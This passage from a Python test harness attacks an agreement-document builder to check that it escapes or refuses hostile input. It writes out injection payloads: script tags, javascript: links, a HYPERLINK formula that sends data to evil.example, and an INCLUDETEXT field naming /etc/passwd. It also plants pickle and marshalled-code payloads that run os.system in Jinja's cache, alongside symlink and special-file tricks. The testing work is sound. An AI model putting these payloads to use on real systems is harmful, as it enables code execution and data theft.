    "no word/document.xml": (_without("word/document.xml"), ("Error:",), ""),
    "no styles part": (_without("word/styles.xml"), ("Error:",), ""),
    "no numbering part": (_without("word/numbering.xml"), ("Error:",), ""),
    "no footer part": (_without("word/footer1.xml"), ("Error:",), ""),
    "a body without section properties": (_document(lambda d: _cut(d, b"<w:sectPr", b"</w:sectPr>")),
                                          ("section properties",), "D13"),
    "a document without a body": (_document(lambda d: _cut(d, b"<w:body>", b"</w:body>")), ("body",), "D13"),
    "a second, hostile entry of the same name": (_duplicate_entries, ("outside file",), ""),
}

for _label, (_make, _words, _defect) in BROKEN.items():
    def _broken(folder: Path, make: Callable[[Path], Path] = _make, words: tuple[str, ...] = _words) -> Verdict:
        result, out = with_reference(folder, make)
        return refused(result, out, words, exits=(2,))
    attack("reference", _label, "refused (exit 2), saying why", _defect)(_broken)


@attack("reference", "a FIFO as the reference document", "refused (exit 2)", "D4")
def _fifo_reference(folder: Path) -> Verdict:
    def make(path: Path) -> Path:
        os.mkfifo(path)
        return path
    result, out = with_reference(folder, make)
    return refused(result, out, exits=(2,))


@attack("reference", "/dev/zero as the reference document", "refused quickly (exit 2)", "D4")
def _zero_reference(folder: Path) -> Verdict:
    result, out = with_reference(folder, lambda _: Path("/dev/zero"))
    return refused(result, out, exits=(2,))


# ---------------------------------------------------------------- 4. the agreement's own text


def grown(data: Mapping[str, object], **sections: object) -> str:
    return yaml.safe_dump({**data, **sections}, allow_unicode=True, sort_keys=False, width=10_000)


BASE = {"agreement": {"title": "Refs", "status": "draft"}}


def _parties(n: int, prefix: str = "party") -> list[dict[str, str]]:
    return [{"id": f"{prefix}-{i:06}", "name": f"P{i}", "sector": "health"} for i in range(n)]


INJECTION = {
    "agreement": {"title": "<script>alert(1)</script> ]]> {{7*7}} \u202eevil", "status": "draft"},
    "parties": [
        {"id": "a", "name": "[click me](javascript:alert(document.cookie)) <img src=x onerror=alert(1)>",
         "sector": "health"},
        {"id": "b", "name": '=HYPERLINK("http://evil.example/?q="&A1,"Click") <w:r><w:t>x</w:t></w:r>',
         "sector": "local_authority"},
    ],
    "definitions": [{"term": "![img](http://evil.example/track.png)",
                     "meaning": '<a href="javascript:alert(1)">x</a> &amp; { INCLUDETEXT "/etc/passwd" }\n'
                                "    indented\n<div onclick=x>\n* star\n1) one\n[ref]: javascript:alert(1)\n---\n"
                                "```\n<!-- c -->\n| a | b |"}],
}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "img", "div") or any((v or "").startswith("javascript:") for _, v in attrs):
            self.found.append(f"<{tag}>")


_OWN_FIELD = re.compile(r'TOC \\o "1-1" \\h \\z \\u|REF _?[A-Za-z0-9_]+ \\[nw] \\h')


def _live_markup(out: Path) -> list[str]:
    """The markup injected into the text that a reader's program would act on, in an HTML, Markdown or Word
    output: tags and javascript: links in HTML; unescaped tags and links in Markdown; fields in Word."""
    if out.suffix == ".docx":
        body = zipfile.ZipFile(out).read("word/document.xml").decode()
        # The tool's own fields: the contents list, and cross-references to its own bookmarks.
        instructions = re.findall(r"<w:instrText[^>]*>([^<]*)<", body) + re.findall(r'w:instr="([^"]*)"', body)
        return [f"a field: {i.strip()}" for i in instructions if not _OWN_FIELD.fullmatch(i.strip())]
    text = out.read_text(encoding="utf-8")
    if out.suffix == ".html":
        parser = _Tags()
        parser.feed(text)
        return parser.found
    return re.findall(r"(?<!\\)<(?:script|img|div|style)\b|(?<!\\)\]\(javascript:", text)


@attack("text", "markup, script and link injection in names and meanings", "shown as typed, escaped")
def _injection(folder: Path) -> Verdict:
    source = folder / "inject.yaml"
    source.write_text(yaml.safe_dump(INJECTION, allow_unicode=True, sort_keys=False), encoding="utf-8")
    seen = []
    for fmt in ("html", "md", "docx"):
        out = folder / f"o.{fmt}"
        result = agreement(folder, "build", str(source), "-o", str(out))
        if result.exit != 0 or not clean(result):
            return Verdict(False, f"{fmt}: {said(result)}")
        seen.append(f"{fmt}: {', '.join(_live_markup(out)) or 'escaped'}")
    return Verdict(all(s.endswith("escaped") for s in seen), "exit 0; " + "; ".join(seen))


@attack("text", "a right-to-left override in the title and a party's name", "kept, and lint warns")
def _bidi(folder: Path) -> Verdict:
    source = folder / "bidi.yaml"
    source.write_text(grown({"agreement": {"title": "Northvale \u202egnp.exe", "status": "draft"}},
                            parties=[{"id": "a", "name": "A\u202eB", "sector": "health"},
                                     {"id": "b", "name": "Plain", "sector": "health"}]), encoding="utf-8")
    result = agreement(folder, "lint", str(source))
    warned = result.stdout.count("U+202E")
    return Verdict(clean(result) and warned >= 2, f"{said(result)}; {warned} findings name U+202E")


def _sized(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


@attack("text", "a 10 MB single string", "exit 1, too large")
def _ten_megabytes(folder: Path) -> Verdict:
    source = _sized(folder, "long.yaml", grown(BASE, parties=_parties(2), variation="x" * 10 * 1024**2))
    return refused(agreement(folder, "build", str(source), "-o", str(folder / "o.md")), folder / "o.md",
                   ("larger than 5 MB",), exits=(1,))


@attack("text", "a 4.9 MB single string", "builds")
def _almost_five_megabytes(folder: Path) -> Verdict:
    source = _sized(folder, "long.yaml", grown(BASE, parties=_parties(2), variation="x" * int(4.9 * 1024**2)))
    return accepted(agreement(folder, "build", str(source), "-o", str(folder / "o.md")), folder / "o.md")


# Not from the review: found while writing tests for the mutation run (100 KB of spaces took minutes).
@attack("text", "a JSON input with long runs of spaces, 5 MB in all", "lint within 10 s")
def _spaced_json(folder: Path) -> Verdict:
    data = yaml.safe_load(SAMPLE.read_text(encoding="utf-8"))
    text = json.dumps(data, indent=1, default=str).replace("{", "{" + " " * 1024**2, 1).encode()
    source = folder / "spaced.json"
    source.write_bytes(text.ljust(5 * 1024**2, b" "))
    result = agreement(folder, "lint", str(source))
    return Verdict(clean(result) and result.exit in (0, 1), f"{said(result)}; {result.cpu_seconds:.1f} s of CPU")


@attack("text", "100,000 parties (5.6 MB)", "exit 1, too large")
def _parties_100k(folder: Path) -> Verdict:
    source = _sized(folder, "p.yaml", grown(BASE, parties=_parties(100_000)))
    return refused(agreement(folder, "build", str(source), "-o", str(folder / "o.md")), folder / "o.md",
                   exits=(1,))


@attack("text", "8,000 parties, built", "builds within 10 s", "D10")
def _parties_8k(folder: Path) -> Verdict:
    source = _sized(folder, "p.yaml", grown(BASE, parties=_parties(8000)))
    result = agreement(folder, "build", str(source), "-o", str(folder / "o.docx"))
    return Verdict(accepted(result, folder / "o.docx").held, f"{said(result)}; {result.cpu_seconds:.1f} s of CPU")


@attack("text", "20,000 cross-reference tokens in one text", "builds within 10 s", "re-check N5")
def _tokens(folder: Path) -> Verdict:
    source = _sized(folder, "t.yaml", grown(BASE, parties=_parties(2), behaviours=[
        " ".join(["See {clause:behaviours}."] * 20_000)]))
    result = agreement(folder, "build", str(source), "-o", str(folder / "o.md"))
    return Verdict(accepted(result, folder / "o.md").held and result.cpu_seconds < 10,
                   f"{said(result)}; {result.cpu_seconds:.1f} s of CPU")


@attack("lint", "5,000 texts citing 50 schedule numbers each", "lint within 10 s, bounded report", "re-check N6")
def _numbered(folder: Path) -> Verdict:
    text = "See Schedule " + " and ".join(str(n) for n in range(1, 51)) + "."
    source = _sized(folder, "n.yaml", grown(BASE, parties=_parties(2), behaviours=[text] * 5000))
    result = agreement(folder, "lint", str(source))
    small = len(result.stdout) < 10 * 1024 * 1024
    return Verdict(clean(result) and result.exit in (0, 1) and small and result.cpu_seconds < 10,
                   f"{said(result)}; {result.cpu_seconds:.1f} s of CPU; report {len(result.stdout) // 1024} KB")


@attack("text", "a 1 KB string reused by 5,000 aliases", "builds")
def _aliases(folder: Path) -> Verdict:
    items = "".join("  - *text\n" for _ in range(5000))
    source = _sized(folder, "a.yaml", grown(BASE, parties=_parties(2)) + f"variation: &text {'word ' * 200}\n"
                    f"behaviours:\n{items}")
    return accepted(agreement(folder, "build", str(source), "-o", str(folder / "o.md")), folder / "o.md")


@attack("text", "2,000 references to ids that do not exist (150 KB)", "validate within 10 s", "D2")
def _dangling(folder: Path) -> Verdict:
    n = 2000
    source = _sized(folder, "refs.yaml", grown(BASE, parties=_parties(n), actions=[
        {"description": "d", "owner": f"parti-{i:06}"} for i in range(n)]))
    result = agreement(folder, "validate", str(source))
    return Verdict(refused(result, exits=(1,)).held, f"{said(result)}; {result.cpu_seconds:.1f} s of CPU")


@attack("text", "8,000 waivers over 8,000 findings", "lint within 10 s", "D11")
def _waivers(folder: Path) -> Verdict:
    n = 8000
    source = _sized(folder, "w.yaml", grown(BASE, parties=_parties(2), actions=[
        {"description": f"d{i}"} for i in range(n)], waivers=[
        {"rule": "AB210", "path": f"/nowhere/{i}", "reason": "r"} for i in range(n)]))
    result = agreement(folder, "lint", str(source))
    return Verdict(clean(result) and result.exit == 1, f"{said(result)}; {result.cpu_seconds:.1f} s of CPU")


# ---------------------------------------------------------------- 5. the file system


@attack("files", "-o a link to a file outside, with and without --force", "refused; --force replaces the link "
        "only")
def _link_out(folder: Path) -> Verdict:
    outside = folder / "outside"
    outside.mkdir()
    precious = outside / "precious.docx"
    precious.write_bytes(b"precious")
    link = folder / "link.docx"
    link.symlink_to(precious)
    source = copy_sample(folder)
    first = agreement(folder, "build", str(source), "-o", str(link))
    second = agreement(folder, "build", str(source), "-o", str(link), "--force")
    held = (refused(first, exits=(2,)).held and second.exit == 0 and precious.read_bytes() == b"precious"
            and not link.is_symlink())
    return Verdict(held, f"{said(first)}; with --force {said(second)}, target untouched")


@attack("files", "-o a dangling link", "refused without --force", "D16")
def _dangling_link(folder: Path) -> Verdict:
    link = folder / "dangling.docx"
    link.symlink_to(folder / "outside" / "nothing.docx")
    result = agreement(folder, "build", str(copy_sample(folder)), "-o", str(link))
    return Verdict(refused(result, exits=(2,)).held and link.is_symlink(), said(result))


@attack("files", "-o a folder", "exit 2")
def _output_folder(folder: Path) -> Verdict:
    (folder / "adir.docx").mkdir()
    return refused(agreement(folder, "build", str(copy_sample(folder)), "-o", str(folder / "adir.docx"), "--force"),
                   exits=(2,))


@attack("files", "-o /dev/full", "exit 2")
def _dev_full(folder: Path) -> Verdict:
    return refused(agreement(folder, "build", str(copy_sample(folder)), "-o", "/dev/full"), exits=(2,))


@attack("files", "-o a device node, with --force", "refused, the device left as it is", "D16", needs="root")
def _device(folder: Path) -> Verdict:
    device = folder / "fulldev"
    os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 7))
    result = agreement(folder, "build", str(copy_sample(folder)), "-o", str(device), "--format", "md", "--force")
    return Verdict(refused(result, exits=(2,)).held and stat.S_ISCHR(os.lstat(device).st_mode), said(result))


@attack("files", "-o a link to /proc/self/fd/1 (a pipe), with --force", "refused, the link left as it is", "D16")
def _stdout_link(folder: Path) -> Verdict:
    link = folder / "stdoutlink"
    link.symlink_to("/proc/self/fd/1")
    env = {**os.environ, "XDG_CACHE_HOME": str(folder / "cache")}
    done = subprocess.run([*COMMAND, "build", str(copy_sample(folder)), "-o", str(link), "--format", "md",
                           "--force"], cwd=folder, env=env, capture_output=True, timeout=30, check=False)
    message = done.stderr.decode("utf-8", "replace").strip().splitlines()
    return Verdict(done.returncode == 2 and link.is_symlink() and not done.stdout,
                   f"exit {done.returncode}: {message[0][:110] if message else ''}")


@attack("files", "-o in a read-only folder (as nobody)", "exit 2, nothing left", needs="root")
def _read_only(folder: Path) -> Verdict:
    folder.chmod(0o755)
    readonly = folder / "ro"
    readonly.mkdir(mode=0o555)
    source = copy_sample(folder)
    source.chmod(0o644)
    result = agreement(folder, "build", str(source), "-o", str(readonly / "out.docx"), as_nobody=True)
    return Verdict(refused(result, exits=(2,)).held and not list(readonly.iterdir()), said(result))


@attack("files", "-o in a missing folder, under a file, and empty", "exit 2 each")
def _bad_outputs(folder: Path) -> Verdict:
    source = copy_sample(folder)
    runs = [agreement(folder, "build", str(source), "-o", target) for target in
            (str(folder / "nofolder" / "x.docx"), str(source / "x.docx"), "")]
    held = all(refused(r, exits=(2,)).held for r in runs) and ".: already exists" not in runs[2].stderr
    return Verdict(held, "; ".join(said(r) for r in runs))


@attack("files", "SIGINT, SIGTERM and SIGHUP while the output is written", "temporary file removed", "D17")
def _signals(folder: Path) -> Verdict:
    source = _sized(folder, "big.yaml", grown(BASE, parties=_parties(2), actions=[
        {"description": f"Action {i} " + "words " * 20, "owner": "party-000000"} for i in range(15_000)]))
    seen = []
    for name in ("SIGINT", "SIGTERM", "SIGHUP"):
        caught, left, code = _interrupt(folder, source, getattr(signal, name))
        seen.append((name, caught, left, code))
    held = all(caught and not left for _, caught, left, _ in seen)
    return Verdict(held, "; ".join(f"{n}: {'exit ' + str(c) if caught else 'temp never seen'}"
                                   f"{', left ' + str(left) if left else ', nothing left'}"
                                   for n, caught, left, c in seen))


def _interrupt(folder: Path, source: Path, signum: int) -> tuple[bool, list[str], int | None]:
    """Build ``source``, send ``signum`` as soon as the temporary output appears, and list what is left."""
    for _ in range(10):
        for leftover in folder.glob(".out.md.*"):
            leftover.unlink()
        target = folder / "out.md"
        target.unlink(missing_ok=True)
        env = {**os.environ, "XDG_CACHE_HOME": str(folder / "cache"), "PYTHONDONTWRITEBYTECODE": "1"}
        process = subprocess.Popen([*COMMAND, "build", str(source), "-o", str(target)], cwd=folder, env=env,
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        caught = False
        deadline = time.monotonic() + 30
        while process.poll() is None and time.monotonic() < deadline:
            if any(p.name.startswith(".out.md.") for p in folder.iterdir()):
                process.send_signal(signum)
                caught = True
                break
        code = process.wait()
        if caught:
            return True, sorted(p.name for p in folder.glob(".out.md.*")), code
    return False, [], None


@attack("files", "two builds of different agreements to one new name, 20 times", "one wins, the other exits 2",
        "D15")
def _race(folder: Path) -> Verdict:
    first, second = copy_sample(folder, "a.yaml"), folder / "b.yaml"
    second.write_text(SAMPLE.read_text(encoding="utf-8").replace("title: ", "title: Other ", 1), encoding="utf-8")
    env = {**os.environ, "XDG_CACHE_HOME": str(folder / "cache")}
    both = 0
    for trial in range(20):
        target = folder / f"same-{trial}.md"
        runs = [subprocess.Popen([*COMMAND, "build", str(s), "-o", str(target)], cwd=folder, env=env,
                                 stdout=subprocess.PIPE, stderr=subprocess.PIPE) for s in (first, second)]
        codes = [r.wait() for r in runs]
        for r in runs:
            r.communicate()
        both += codes == [0, 0]
    return Verdict(both == 0, f"both reported success in {both} of 20 trials")


@attack("files", "lint --output over its own input", "refused, the input unchanged", "D8")
def _lint_over_input(folder: Path) -> Verdict:
    victim = copy_sample(folder, "victim.yaml")
    result = agreement(folder, "lint", str(victim), "--output", str(victim))
    return Verdict(refused(result, exits=(2,)).held and victim.read_bytes() == SAMPLE.read_bytes(), said(result))


@attack("files", "build -o its own input with --force (md, and docx)", "refused, the input unchanged", "D8")
def _build_over_input(folder: Path) -> Verdict:
    victim = copy_sample(folder, "victim.yaml")
    runs = [agreement(folder, "build", str(victim), "-o", str(victim), "--format", fmt, "--force")
            for fmt in ("md", "docx")]
    held = all(refused(r, exits=(2,)).held for r in runs) and victim.read_bytes() == SAMPLE.read_bytes()
    return Verdict(held, "; ".join(said(r) for r in runs))


@attack("files", "build -o a hard link to its own input, with --force", "refused, the input unchanged", "D8")
def _build_over_hard_link(folder: Path) -> Verdict:
    victim = copy_sample(folder, "victim.yaml")
    os.link(victim, folder / "victim.md")
    result = agreement(folder, "build", str(victim), "-o", str(folder / "victim.md"), "--force")
    return Verdict(refused(result, exits=(2,)).held and victim.read_bytes() == SAMPLE.read_bytes(), said(result))


def _cache_entries(cache: Path) -> list[Path]:
    return sorted(cache.glob("agreement-builder/*/*"))


def _filled_cache(folder: Path) -> tuple[Path, Path]:
    cache = folder / "cache"
    source = copy_sample(folder)
    agreement(folder, "build", str(source), "-o", str(folder / "fill.docx"))
    return cache, source


PICKLE_PAYLOAD = b"cos\nsystem\n(S'touch PWNED'\ntR."  # pickle protocol 0: os.system('touch PWNED')


@attack("files", "a planted cache entry: Jinja's magic and a pickle that runs a command", "not run; recompiled",
        "D1")
def _poison_pickle(folder: Path) -> Verdict:
    from jinja2.bccache import bc_magic

    cache, source = _filled_cache(folder)
    entries = _cache_entries(cache)
    for entry in entries:
        entry.write_bytes(bc_magic + PICKLE_PAYLOAD)
    result = agreement(folder, "build", str(source), "-o", str(folder / "b.docx"))
    ran = (folder / "PWNED").exists()
    return Verdict(bool(entries) and not ran and accepted(result).held,
                   f"{said(result)}; {len(entries)} entries planted; command {'ran' if ran else 'did not run'}")


@attack("files", "a planted cache entry: Jinja's format with code that runs a command", "not run; recompiled",
        "D1")
def _poison_code(folder: Path) -> Verdict:
    from jinja2.bccache import bc_magic

    cache, source = _filled_cache(folder)
    entries = _cache_entries(cache)
    for entry in entries:
        try:  # Jinja's entry: its magic, the template's checksum (pickled), then the code
            checksum = pickle.load(io.BytesIO(entry.read_bytes()[len(bc_magic):]))
        except Exception:  # noqa: BLE001 - an entry in another format: plant Jinja's anyway
            checksum = "0" * 40
        entry.write_bytes(bc_magic + pickle.dumps(checksum, 2) + PLANTED)
    result = agreement(folder, "build", str(source), "-o", str(folder / "b.docx"))
    ran = (folder / "PWNED").exists()
    return Verdict(bool(entries) and not ran and accepted(result).held,
                   f"{said(result)}; command {'ran' if ran else 'did not run'}")


PLANTED = marshal.dumps(compile("import os\nos.system('touch PWNED')\n", "t", "exec"))


def _plant(entry: bytes) -> bytes:
    """``entry`` with its code replaced by code that runs a command, its header kept: Jinja's format (magic,
    pickled checksum, code), or one whose header is its first two lines."""
    from jinja2.bccache import bc_magic

    if entry.startswith(bc_magic):
        with contextlib.suppress(Exception):
            return bc_magic + pickle.dumps(pickle.load(io.BytesIO(entry[len(bc_magic):])), 2) + PLANTED
    return b"\n".join(entry.split(b"\n", 2)[:2]) + b"\n" + PLANTED


@attack("files", "a cache folder owned by another user, mode 0777, entries planted by that user",
        "the folder refused", "D1", needs="root")
def _cache_other_user(folder: Path) -> Verdict:
    shared = folder / "shared"
    shared.mkdir()
    source = copy_sample(folder)
    agreement(folder, "build", str(source), "-o", str(folder / "a.docx"), env={"XDG_CACHE_HOME": str(shared)})
    entries = _cache_entries(shared)
    for entry in entries:
        entry.write_bytes(_plant(entry.read_bytes()))
    for path in [shared, *shared.rglob("*")]:
        os.chown(path, 65534, 65534)
        path.chmod(0o777)
    result = agreement(folder, "build", str(source), "-o", str(folder / "b.docx"), env={"XDG_CACHE_HOME": str(shared)})
    ran = (folder / "PWNED").exists()
    return Verdict(bool(entries) and not ran and accepted(result).held,
                   f"{said(result)}; {len(entries)} entries planted; command {'ran' if ran else 'did not run'}")


@attack("files", "a corrupt cache entry (the right magic, then garbage)", "recompiled, and healed", "D14")
def _corrupt_entry(folder: Path) -> Verdict:
    from jinja2.bccache import bc_magic

    cache, source = _filled_cache(folder)
    entries = _cache_entries(cache)
    for entry in entries:
        entry.write_bytes(bc_magic + b"\x00garbage")
    first = agreement(folder, "build", str(source), "-o", str(folder / "b.docx"))
    second = agreement(folder, "build", str(source), "-o", str(folder / "c.docx"))
    healed = all(b"garbage" not in e.read_bytes() for e in _cache_entries(cache))
    return Verdict(accepted(first).held and accepted(second).held and healed,
                   f"{said(first)}; then {said(second)}; entries {'rewritten' if healed else 'still corrupt'}")


@attack("files", "a FIFO in place of a cache entry", "not opened; builds", "D14")
def _fifo_entry(folder: Path) -> Verdict:
    cache, source = _filled_cache(folder)
    entry = _cache_entries(cache)[0]
    entry.unlink()
    os.mkfifo(entry)
    result = agreement(folder, "build", str(source), "-o", str(folder / "b.docx"))
    return accepted(result)


@attack("files", "XDG_CACHE_HOME relative", "ignored, as the XDG specification says", "D14")
def _relative_cache(folder: Path) -> Verdict:
    work = folder / "work"
    work.mkdir()
    home = folder / "home"
    home.mkdir()
    result = agreement(work, "build", str(copy_sample(work)), "-o", "a.docx",
                       env={"XDG_CACHE_HOME": "relcache", "HOME": str(home)})
    written = (work / "relcache").exists()
    return Verdict(accepted(result).held and not written,
                   f"{said(result)}; {'a' if written else 'no'} cache written in the working folder")


@attack("files", "XDG_CACHE_HOME a file, empty, or the cache folder a file", "builds")
def _odd_caches(folder: Path) -> Verdict:
    source = copy_sample(folder)
    (folder / "afile").write_text("x")
    (folder / "tagged").mkdir()
    (folder / "tagged" / "agreement-builder").write_text("x")
    runs = []
    for value in (str(folder / "afile"), "", str(folder / "tagged")):
        runs.append(agreement(folder, "build", str(source), "-o", str(folder / f"o{len(runs)}.docx"),
                              env={"XDG_CACHE_HOME": value}))
    return Verdict(all(accepted(r).held for r in runs), "; ".join(said(r) for r in runs))


@attack("files", "a cache folder that cannot be written (as nobody)", "builds", needs="root")
def _cache_unwritable(folder: Path) -> Verdict:
    folder.chmod(0o755)
    cache = folder / "cache"
    cache.mkdir(mode=0o555)
    source = copy_sample(folder)
    source.chmod(0o644)
    out = folder / "out"
    out.mkdir()
    out.chmod(0o777)
    result = agreement(folder, "build", str(source), "-o", str(out / "a.docx"), as_nobody=True)
    return accepted(result, out / "a.docx")


# ---------------------------------------------------------------- 6. lint over awkward paths


@attack("lint", "a folder with link loops, a FIFO, a link to /dev/zero, a dangling link", "no hang")
def _awkward_folder(folder: Path) -> Verdict:
    awkward = folder / "f"
    awkward.mkdir()
    copy_sample(awkward, "ok.yaml")
    (awkward / "loop").symlink_to(awkward)
    (awkward / "self.yaml").symlink_to(awkward / "self.yaml")
    os.mkfifo(awkward / "pipe.yaml")
    (awkward / "zero.yaml").symlink_to("/dev/zero")
    (awkward / "dangling.yaml").symlink_to(folder / "nothing")
    (awkward / "dir.yaml").mkdir()
    result = agreement(folder, "lint", str(awkward))
    return Verdict(clean(result) and result.exit in (0, 1), said(result))


@attack("lint", "/dev/zero, /proc/self/environ and /dev/null given directly", "exit 1 each")
def _special_files(folder: Path) -> Verdict:
    runs = [agreement(folder, "lint", name) for name in ("/dev/zero", "/proc/self/environ", "/dev/null")]
    return Verdict(all(refused(r, exits=(1,)).held for r in runs), "; ".join(said(r) for r in runs))


@attack("lint", "a dangling link given directly", "exit 2")
def _dangling_input(folder: Path) -> Verdict:
    (folder / "gone.yaml").symlink_to(folder / "nothing.yaml")
    return refused(agreement(folder, "lint", str(folder / "gone.yaml")), exits=(2,))


@attack("lint", "an unreadable file (as nobody)", "exit 2, named", needs="root")
def _unreadable_file(folder: Path) -> Verdict:
    folder.chmod(0o755)
    copy_sample(folder, "a.yaml").chmod(0o644)
    copy_sample(folder, "b.yaml").chmod(0)
    return refused(agreement(folder, "lint", str(folder), as_nobody=True), words=("b.yaml",), exits=(2,))


@attack("lint", "an unreadable subfolder (as nobody)", "exit 2, named", "D18", needs="root")
def _unreadable_folder(folder: Path) -> Verdict:
    folder.chmod(0o755)
    top = folder / "unr3"
    (top / "locked").mkdir(parents=True)
    copy_sample(top, "a.yaml").chmod(0o644)
    copy_sample(top / "locked", "x.yaml")
    (top / "locked").chmod(0)
    top.chmod(0o755)
    return refused(agreement(folder, "lint", str(top), as_nobody=True), words=("locked",), exits=(2,))


@attack("lint", "a file name with a byte that is not UTF-8, reports written to a file", "a valid report", "D19")
def _non_utf8_name(folder: Path) -> Verdict:
    names = folder / "names"
    names.mkdir()
    shutil.copyfile(ROOT / "samples" / "first-draft.yaml", os.fsdecode(bytes(names) + b"/bad\xffname.yaml"))
    seen = []
    for fmt in ("sarif", "json", "text"):
        out = folder / f"r.{fmt}"
        result = agreement(folder, "lint", "names", "--format", fmt, "--output", out.name)
        try:
            text = out.read_bytes().decode("utf-8")
            valid = "name.yaml" in text and (fmt == "text" or bool(json.loads(text)))
        except (OSError, ValueError):
            valid = False
        seen.append((clean(result) and result.exit == 1 and valid, f"{fmt}: {said(result)}"))
    return Verdict(all(ok for ok, _ in seen), "; ".join(text for _, text in seen))


@attack("lint", "a file name with a control character, JUnit", "valid XML", "D19")
def _control_name(folder: Path) -> Verdict:
    from xml.etree import ElementTree

    names = folder / "names2"
    names.mkdir()
    shutil.copyfile(SAMPLE, names / "ctl\x01name.yaml")
    result = agreement(folder, "lint", str(names), "--format", "junit")
    try:
        ElementTree.fromstring(result.stdout)
        valid = True
    except ElementTree.ParseError:
        valid = False
    return Verdict(clean(result) and valid, f"{said(result)}; JUnit {'valid' if valid else 'not well-formed'}")


# ---------------------------------------------------------------- 7. settings and selection


BROKEN_YAML = "agreement: [unclosed\n"


@attack("settings", '--ignore "" and --select ""', "exit 2", "D9")
def _empty_selector(folder: Path) -> Verdict:
    draft = ROOT / "samples" / "first-draft.yaml"
    runs = [agreement(folder, "lint", str(draft), option, "") for option in ("--ignore", "--select")]
    return Verdict(all(refused(r, exits=(2,)).held for r in runs), "; ".join(said(r) for r in runs))


@attack("settings", 'ignore = [""] in .agreement.toml, for lint and build', "exit 2", "D9")
def _empty_selector_in_settings(folder: Path) -> Verdict:
    (folder / ".agreement.toml").write_text('[lint]\nignore = [""]\n', encoding="utf-8")
    source = folder / "draft.yaml"
    shutil.copyfile(ROOT / "samples" / "first-draft.yaml", source)
    runs = [agreement(folder, "lint", str(source)), agreement(folder, "build", str(source), "-o", "d.md")]
    return Verdict(all(refused(r, exits=(2,)).held for r in runs) and not (folder / "d.md").exists(),
                   "; ".join(said(r) for r in runs))


@attack("settings", "--ignore AB001 on a file that cannot be parsed", "not a pass", "D9")
def _ignore_parse_errors(folder: Path) -> Verdict:
    source = _sized(folder, "broken.yaml", BROKEN_YAML)
    return refused(agreement(folder, "lint", str(source), "--ignore", "AB001"))


@attack("settings", "a waiver of AB003 (a reference to a missing id)", "not waived", "D9")
def _waive_reference(folder: Path) -> Verdict:
    source = _sized(folder, "w.yaml", grown(BASE, parties=_parties(2), actions=[{"description": "d", "owner": "x"}],
                                          waivers=[{"rule": "AB003", "reason": "we accept it"}]))
    return refused(agreement(folder, "lint", str(source)), exits=(1,), words=("AB003 [error]",))


@attack("settings", "a settings file that is not TOML in a parent folder", "exit 2, named")
def _broken_settings(folder: Path) -> Verdict:
    (folder / "child").mkdir()
    (folder / "pyproject.toml").write_text("this is [ not toml", encoding="utf-8")
    return refused(agreement(folder, "lint", str(copy_sample(folder / "child"))), words=("pyproject.toml",),
                   exits=(2,))


@attack("settings", "a settings file in a world-writable folder, written by another user", "ignored",
        needs="root")
def _settings_from_a_shared_folder(folder: Path) -> Verdict:
    shared = folder / "tmp"
    shared.mkdir()
    shared.chmod(0o1777)
    settings = shared / ".agreement.toml"
    settings.write_text('[lint]\nfail-on = "never"\n', encoding="utf-8")
    os.chown(settings, 65534, 65534)
    (shared / "mine").mkdir()
    draft = shared / "mine" / "draft.yaml"
    shutil.copyfile(ROOT / "samples" / "first-draft.yaml", draft)
    result = agreement(folder, "lint", str(draft))
    return Verdict(clean(result) and result.exit == 1, said(result))


@attack("settings", "clause templates misnamed, not UTF-8, or with a syntax error", "exit 2, located")
def _bad_templates(folder: Path) -> Verdict:
    runs = []
    for name, content in (("Variation.xml.j2", b"<section/>"), ("variation.xml.j2", b"<section>\xe9</section>"),
                          ("variation.xml.j2", b"{% if %}")):
        case = folder / f"case{len(runs)}"
        clauses = case / "clauses"
        clauses.mkdir(parents=True)
        (clauses / name).write_bytes(content)
        runs.append(agreement(case, "build", str(copy_sample(case)), "--clauses", str(clauses), "-o", "o.md"))
    return Verdict(all(refused(r, exits=(2,)).held for r in runs), "; ".join(said(r) for r in runs))


@attack("settings", "an unreadable reference, template and clause folder (as nobody)", "exit 2 each", needs="root")
def _unreadable_inputs(folder: Path) -> Verdict:
    folder.chmod(0o755)
    source = copy_sample(folder)
    source.chmod(0o644)
    out = folder / "out"
    out.mkdir()
    out.chmod(0o777)
    reference = package(folder / "ref.docx", parts())
    reference.chmod(0)
    (folder / "t").mkdir()
    template = clause_folder(folder / "t", "x")
    (template / "variation.xml.j2").chmod(0)
    locked = folder / "locked"
    locked.mkdir(mode=0)
    runs = [agreement(folder, "build", str(source), "-o", str(out / f"{i}.docx"), *extra, as_nobody=True)
            for i, extra in enumerate((("--reference-doc", str(reference)), ("--clauses", str(template)),
                                       ("--clauses", str(locked))))]
    return Verdict(all(refused(r, exits=(2,)).held for r in runs), "; ".join(said(r) for r in runs))


# ---------------------------------------------------------------- running them all


def attempt(item: Attack) -> Verdict:
    """Run one attack in a fresh folder; an exception in the attack's own set-up counts against it."""
    reason = skip_reason(item)
    if reason:
        return Verdict(True, f"not run: {reason}")
    folder = Path(tempfile.mkdtemp(prefix="agreement-attack-"))
    try:
        return item.attempt(folder)
    except Exception as e:  # noqa: BLE001 - the table shows it, the test fails on it
        return Verdict(False, f"the attack itself failed: {type(e).__name__}: {e}")
    finally:
        _unlock(folder)
        shutil.rmtree(folder, ignore_errors=True)


def _unlock(folder: Path) -> None:
    for path in [folder, *folder.rglob("*")] if folder.exists() else []:
        if not path.is_symlink():
            with contextlib.suppress(OSError):
                path.chmod(0o700 if path.is_dir() else 0o600)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--only", default="", help="run the attacks whose name holds this text")
    args = parser.parse_args()
    chosen = [a for a in ATTACKS if args.only.lower() in a.name.lower()]
    with ThreadPoolExecutor(max_workers=len(os.sched_getaffinity(0))) as pool:
        verdicts = list(pool.map(attempt, chosen))
    print("| area | attack | review's defect | expected | observed | verdict |")
    print("|---|---|---|---|---|---|")
    for item, verdict in zip(chosen, verdicts, strict=True):
        word = "not run" if verdict.observed.startswith("not run") else "held" if verdict.held else "DEFECT"
        cells = (item.area, item.name, item.defect or "-", item.expected, verdict.observed.replace("|", "\\|"), word)
        print("| " + " | ".join(cells) + " |")
    held = sum(v.held and not v.observed.startswith("not run") for v in verdicts)
